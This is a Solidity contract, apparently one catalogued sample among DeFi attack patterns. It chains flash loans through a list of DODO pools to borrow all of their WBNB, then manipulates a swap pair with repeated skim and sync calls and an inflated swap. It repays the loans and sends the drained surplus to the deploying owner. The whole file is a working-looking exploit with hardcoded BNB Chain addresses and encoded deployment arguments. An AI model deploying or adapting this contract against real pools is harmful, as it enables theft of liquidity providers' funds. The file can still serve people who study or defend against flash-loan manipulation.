// SPDX-License-Identifier: BSD-3-Clause
// provider: dodo_dpp
// family: skim
// contract: Chain
// shows: entry callback
// since: 0.6
// arguments: 0x000000000000000000000000aaaa00000000000000000000000000000000aaaa00000000000000000000000000000000000000000000000000000000000000400000000000000000000000000000000000000000000000000000000000000002000000000000000000000000feafe253802b77456b4627f8c2306a9cebb5d6810000000000000000000000000fe261aee0d1c4dfddee4102e82dd425999065f4
// One loan inside the other through a list of DODO pools that the deployer gives, then the attack.
pragma solidity >=0.6.0 <0.9.0;

interface IDPP {
	function flashLoan(uint256 baseAmount, uint256 quoteAmount, address assetTo, bytes calldata data) external;
	function _BASE_TOKEN_() external view returns (address);
}
interface IBEP20 { function balanceOf(address a) external view returns (uint256); function transfer(address to, uint256 v) external returns (bool); }
interface ISwapPair { function swap(uint256 a0, uint256 a1, address to, bytes calldata data) external; function sync() external; function skim(address to) external; }

contract Chain {
	address[] private pools;
	address private owner = msg.sender;
	IBEP20 private constant WBNB = IBEP20(0xbb4CdB9CBd36B01bD1cBaEBF2De08d9173bc095c);
	ISwapPair private immutable pair;

	constructor(address p, address[] memory list) public { pair = ISwapPair(p); pools = list; }

	function start() external { require(msg.sender == owner); _next(0); WBNB.transfer(owner, WBNB.balanceOf(address(this))); }

	function _next(uint256 i) private {
		if (i == pools.length) { _drain(); return; }
		uint256 all = WBNB.balanceOf(pools[i]);
		if (IDPP(pools[i])._BASE_TOKEN_() == address(WBNB)) IDPP(pools[i]).flashLoan(all, 0, address(this), abi.encode(i, all));
		else IDPP(pools[i]).flashLoan(0, all, address(this), abi.encode(i, all));
	}

	function DPPFlashLoanCall(address, uint256, uint256, bytes calldata data) external {
		(uint256 i, uint256 owed) = abi.decode(data, (uint256, uint256));
		require(msg.sender == pools[i]);
		_next(i + 1);
		WBNB.transfer(msg.sender, owed);
	}

	function _drain() private {
		uint256 all = WBNB.balanceOf(address(this));
		WBNB.transfer(address(pair), all / 3);
		for (uint256 i = 0; i < 30; i++) { pair.skim(address(pair)); pair.skim(address(this)); }
		pair.sync();
		pair.swap(all / 3 + 1e18, 0, address(this), "");
	}
}
